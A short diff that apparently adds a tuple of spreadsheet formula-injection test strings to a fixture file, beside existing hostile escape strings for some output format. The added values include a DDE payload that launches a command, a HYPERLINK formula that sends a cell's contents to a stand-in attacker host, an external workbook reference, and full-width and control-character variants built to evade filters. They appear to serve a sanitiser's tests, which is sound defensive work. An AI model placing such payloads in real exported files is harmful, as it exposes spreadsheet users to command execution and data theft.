@@ -18,3 +18,24 @@ HOSTILE = (
     'a\\"; b -> c [label="',
     "\\",
 )
+
+FORMULAS = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+1",
+    "-1-1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\x00=1+1",
+    "\u200b=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1,1)",
+    "{=1+1}",
+    '&L&"Arial"&P',
+    "'[evil.xlsx]Sheet1'!A1",
+)
+"""What a spreadsheet would take for a formula, in one way or another; in Japan wide letters too."""
